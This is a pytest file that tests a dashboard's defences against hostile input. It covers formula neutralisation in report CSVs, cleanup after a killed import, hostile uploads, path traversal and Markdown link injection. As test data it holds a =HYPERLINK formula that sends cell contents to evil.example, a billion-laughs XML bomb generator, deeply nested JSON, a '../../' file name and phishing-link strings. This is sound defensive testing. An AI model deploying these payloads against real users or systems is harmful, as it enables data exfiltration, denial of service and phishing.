"""The page against hostile input: link text, files that attack their reader, a killed import, formulas in a CSV."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path
from urllib.parse import quote
from xml.etree.ElementTree import ParseError

import openpyxl
import pytest

from dashboard.data import backup_files, demo, store
from dashboard.data.changes import Changes, Source
from dashboard.data.geopackage import GeoPackageStore
from dashboard.intake.issues import FLAG, Issue
from dashboard.intake.report import REJECTED, Report, RowResult
from dashboard.paths import ROOT
from dashboard.safe_text import literal
from tests.browser import Watch, running_servers, watched_page
from tests.editors import signed_in

WAIT = 180  # seconds a subprocess may take to start, import and commit on a busy machine
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Ver")', "+1+1", "-2+3", "@SUM(A1)")


# --- the import report's CSV ---------------------------------------------------------------------------------


def test_the_import_report_csv_neutralises_formulas():
    results = tuple(
        RowResult(n + 2, REJECTED, formula, (Issue(n + 2, formula, "validate.no_point"),))
        for n, formula in enumerate(FORMULAS)
    )
    report = Report(
        "campo.csv",
        "innovations",
        results,
        Changes(),
        file_issues=(Issue(None, FORMULAS[0], "validate.no_point", severity=FLAG),),
    )
    rows = list(csv.reader(io.StringIO(report.csv("es").decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@"))] == []
    assert cells.count(f"'{FORMULAS[0]}") == 3  # an id, its field and the whole-file issue's field
    assert rows[1][:3] == ["2", "rechazado", f"'{FORMULAS[0]}"]  # the rest of the report as it was


# --- what a killed import leaves, swept by the next commit --------------------------------------------------

# A commit killed while its temporary store is mid-write: SQLite's rollback journal beside it is "hot",
# as it was in every kill during pyogrio's own writes (`.atlas.<pid>.<hex>.tmp.gpkg-journal`), and the
# backup of a change that never happened is already in `backups/`.
KILLED_MID_WRITE = """
import os, sqlite3, sys, time
from pathlib import Path
from dashboard.data import store
from dashboard.data.changes import Changes, Source
from dashboard.data.geopackage import GeoPackageStore

atlas, ready = Path(sys.argv[1]), Path(sys.argv[2])
replace = os.replace

def stop_mid_write(source, target):
    if str(source).endswith(".tmp.gpkg"):
        half = sqlite3.connect(source, isolation_level=None)
        half.execute("BEGIN IMMEDIATE")
        half.execute("CREATE TABLE half_written (a)")
        ready.with_name("ready.part").write_text(str(source))
        replace(ready.with_name("ready.part"), ready)  # whole or absent: the test reads it once it exists
        time.sleep(600)
    replace(source, target)

os.replace = stop_mid_write
row = store.load(atlas).innovations.head(1).copy()
row["title"] = "Nunca guardado"
GeoPackageStore(atlas).commit(Changes(updated={"innovations": row}), Source("import", "corte.csv"), "killed")
"""


def _kill_mid_write(atlas: Path, tmp_path: Path) -> None:
    ready = tmp_path / "ready"
    process = subprocess.Popen(
        [sys.executable, "-c", KILLED_MID_WRITE, str(atlas), str(ready)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + WAIT
    while not ready.exists():
        if process.poll() is not None:
            pytest.fail(f"the subprocess ended early:\n{process.communicate()[1]}")
        assert time.monotonic() < deadline, "timed out waiting for the subprocess"
        time.sleep(0.05)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=WAIT)


def _edit(atlas: Path, title: str) -> str:
    row = store.load(atlas).innovations.head(1).copy()
    row["title"] = title
    changes = Changes(updated={"innovations": row})
    return GeoPackageStore(atlas).commit(changes, Source("edit", "formulario"), "ana")


def test_the_commit_after_a_killed_import_sweeps_its_journal_and_its_backup(atlas, tmp_path):
    before = atlas.read_bytes()
    _kill_mid_write(atlas, tmp_path)
    assert atlas.read_bytes() == before
    left = sorted(p.name for p in tmp_path.glob(".atlas.*"))
    assert [n for n in left if n.endswith(".tmp.gpkg-journal")], left  # what the killed writer left behind
    # a backup of a change never made
    assert len(backup_files.listed(atlas)) == 1 and GeoPackageStore(atlas).history().empty

    entry = _edit(atlas, "Después del corte")
    assert sorted(p.name for p in tmp_path.glob(".atlas.*")) == []
    assert [p.name for p in backup_files.listed(atlas)] == list(GeoPackageStore(atlas).history()["backup"])
    assert not list((tmp_path / "backups").glob(".*"))
    assert entry == "CHG-000001" and "Después del corte" in set(store.load(atlas).innovations["title"])


def test_the_sweep_keeps_backups_it_cannot_prove_orphaned(atlas, tmp_path):
    _edit(atlas, "Primera")
    recorded = backup_files.listed(atlas)[0]
    folder = tmp_path / "backups"
    other = folder / "atlas-20200101T000000Z-CHG-000009.gpkg"  # e.g. of a store `init` replaced since
    shutil.copyfile(recorded, other)
    orphan = folder / "atlas-20200101T000001Z-CHG-000002.gpkg"  # the current store, copied, never committed
    shutil.copyfile(atlas, orphan)
    alive = tmp_path / f".atlas.{os.getpid()}.0123abcd.tmp.gpkg-journal"  # a writer still running
    alive.write_bytes(b"")
    with GeoPackageStore(atlas).locked():
        backup_files.sweep(atlas)
    assert recorded.exists() and other.exists() and alive.exists()
    assert not orphan.exists()


# --- hostile files on *Gestionar datos* ---------------------------------------------------------------------


def _laughing_workbook() -> bytes:
    """An XLSX whose worksheet declares a billion laughs (nine levels of ten entities)."""
    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["name", "region"])
    book.active.append(["Quispillaccta", "PE-AYA"])
    book.save(buffer)
    plain, hostile = zipfile.ZipFile(buffer), io.BytesIO()
    with zipfile.ZipFile(hostile, "w") as out:
        for item in plain.infolist():
            data = plain.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = data.decode()
                body = body[body.index("<worksheet") :].replace("<t>", "<t>&lol9;", 1)
                data = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>{body}'.encode()
            out.writestr(item, data)
    return hostile.getvalue()


def _xlsform() -> bytes:
    """A form definition (survey, choices, settings) where its submissions were wanted."""
    book = openpyxl.Workbook()
    book.active.title = "survey"
    book.active.append(["type", "name", "label"])
    book.active.append(["text", "comunidad", "Comunidad"])
    book.create_sheet("choices").append(["list_name", "name", "label"])
    book.create_sheet("settings").append(["form_title", "form_id"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


HOSTILE = {
    "risas.xlsx": _laughing_workbook,
    "anidado.geojson": lambda: b"[" * 100_000 + b"]" * 100_000,
    "binario.csv": lambda: bytes(range(256)) * 64,
    "formulario.xlsx": _xlsform,
}


def _upload(at, name: str, content: bytes):
    at.radio(key="import_entity").set_value("communities").run()
    return at.file_uploader(key="import_file").set_value((name, content, "application/octet-stream")).run()


def _unchanged(path: Path, before: bytes) -> None:
    assert path.read_bytes() == before, "the store was written"
    assert not (path.parent / "backups").exists() or not list((path.parent / "backups").iterdir())
    with GeoPackageStore(path, timeout=0).locked():  # nobody holds the lock
        pass


@pytest.fixture()
def editor_on(atlas, monkeypatch, tmp_path):
    """Ana signed in on a private copy of the small store, uploads kept in this test's own temp folder."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    return signed_in(atlas, monkeypatch)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_on_the_page_without_a_traceback(editor_on, atlas, name):
    before = atlas.read_bytes()
    at = _upload(editor_on, name, HOSTILE[name]())
    assert not at.exception, [e.message for e in at.exception]
    errors, warnings = [e.value for e in at.error], [w.value for w in at.warning]
    assert any(f"«{literal(name)}»" in error for error in errors) or warnings, (errors, warnings)
    assert not [b for b in at.button if b.key == "import_commit" and not b.disabled]
    _unchanged(atlas, before)


@pytest.mark.parametrize(
    "error",
    [
        RecursionError("maximum recursion depth exceeded"),
        ParseError("undefined entity"),
        zipfile.BadZipFile("Bad magic number"),
        MemoryError(),
        KeyError("xl/workbook.xml"),
        UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte"),
    ],
    ids=lambda e: type(e).__name__,
)
def test_an_error_no_reader_expects_is_said_plainly(editor_on, atlas, monkeypatch, error):
    def broken(*args, **kwargs):
        raise error

    monkeypatch.setattr("dashboard.intake.importing.read_table", broken)
    before = atlas.read_bytes()
    at = _upload(editor_on, "campo_[x](http://evil.example).csv", b"name,region\nA,PE-AYA\n")
    assert not at.exception, [e.message for e in at.exception]
    [shown] = [e.value for e in at.error]
    assert shown.startswith("No se pudo leer el archivo «` campo_[x](http://evil.example).csv `»: ")
    assert not any(mark in _outside_code(shown) for mark in ("[", "](", "://"))  # the file name is no link
    assert type(error).__name__ in shown and tempfile.gettempdir() not in shown  # where the server keeps it is not said
    _unchanged(atlas, before)


def test_an_error_while_checking_the_rows_is_said_plainly(editor_on, atlas, monkeypatch):
    def broken(*args, **kwargs):
        raise TypeError("unhashable type: 'list'")

    monkeypatch.setattr("dashboard.intake.importing.validate", broken)
    before = atlas.read_bytes()
    at = _upload(editor_on, "comunidades.csv", b"name,region\nQuispillaccta,PE-AYA\n")
    assert not at.exception, [e.message for e in at.exception]
    assert [e.value for e in at.error][0].startswith("No se pudo leer el archivo «` comunidades.csv `»: ")
    _unchanged(atlas, before)


COMMUNITIES_CSV = b"""community_id,name,country,region,location_source,latitude,longitude,altitude_m
AYA-1,Quispillaccta,PE,PE-AYA,gps,-13.57,-74.33,3400
"""


def test_an_error_while_importing_is_said_plainly_and_writes_nothing(editor_on, atlas, monkeypatch):
    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("dashboard.views.manage.commit.commit_checked", full_disk)
    before = atlas.read_bytes()
    at = _upload(editor_on, "comunidades.csv", COMMUNITIES_CSV)
    at.checkbox(key="import_confirm").check()
    at.checkbox(key="import_demo_confirm").check().run()
    at.button(key="import_commit").click().run()
    assert not at.exception, [e.message for e in at.exception]
    assert [e.value for e in at.error] == [
        "No se pudo importar el archivo «` comunidades.csv `»; no se escribió nada en el atlas. "
        "Detalle: ` OSError: [Errno 28] No space left on device `"
    ]
    _unchanged(atlas, before)


def _outside_code(markdown: str) -> str:
    """What Markdown reads as syntax: the text with its inline code spans taken out."""
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown, flags=re.DOTALL)


def _uploads(tmp_path: Path) -> list[Path]:
    return sorted(p for p in (tmp_path / "tmp").rglob("*") if p.is_file())


def test_only_the_current_upload_is_kept_on_disk(editor_on, tmp_path):
    at = _upload(editor_on, "uno.csv", b"name,region\nUno,PE-AYA\n")
    assert [p.name for p in _uploads(tmp_path)] == ["uno.csv"]
    at.run()  # a rerun writes nothing new
    assert [p.name for p in _uploads(tmp_path)] == ["uno.csv"]
    at.file_uploader(key="import_file").set_value(("dos.csv", b"name,region\nDos,PE-PUN\n", "text/csv")).run()
    assert [p.name for p in _uploads(tmp_path)] == ["dos.csv"]
    at.file_uploader(key="import_file").set_value(None).run()
    assert _uploads(tmp_path) == [] and not at.exception


def test_a_file_name_cannot_leave_the_upload_folder(editor_on, tmp_path):
    at = _upload(editor_on, "../../" + "x" * 300 + ".csv", b"name,region\nUno,PE-AYA\n")
    assert not at.exception, [e.message for e in at.exception]
    [written] = _uploads(tmp_path)
    assert written.suffix == ".csv" and len(written.name) < 120 and (tmp_path / "tmp") in written.parents


# --- a link's text in the browser ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hardening")
    path = folder / "atlas.gpkg"
    store.write(demo.build(40, seed=11), path)
    yield from running_servers(path, folder / "streamlit.log")


@pytest.mark.browser
@pytest.mark.parametrize(
    "value",
    ["![t](http://evil.example/t.png)", "[Inicie sesión aquí](http://evil.example/login)"],
    ids=["image", "link"],
)
def test_link_text_in_a_notice_fetches_nothing_and_links_nowhere(chromium, server, value):
    watch = Watch()
    context, page = watched_page(chromium, watch)
    page.goto(f"{server.url}/?region={quote(value, safe='')}")
    toast = page.locator("[data-testid=stToast]").filter(has_text="evil.example")
    toast.wait_for()
    assert value in toast.inner_text()  # the text as written, not rendered as Markdown
    assert page.locator("a[href*='evil.example'], img[src*='evil.example']").count() == 0
    page.wait_for_timeout(500)  # a fetch the toast started would be counted by now
    context.close()
    assert watch.outside == [], watch.outside


@pytest.mark.browser
def test_searched_text_with_an_address_is_shown_as_text_not_as_a_link(chromium, server):
    """The headline repeats the search from the link: a bare address in it must not become a link."""
    watch = Watch()
    context, page = watched_page(chromium, watch)
    page.goto(f"{server.url}/?q={quote('Inicie sesión en http://evil.example/login o www.evil.example', safe='')}")
    page.get_by_text("evil", exact=False).first.wait_for()
    assert page.locator("a[href*='evil.example']").count() == 0
    context.close()
    assert watch.outside == [], watch.outside
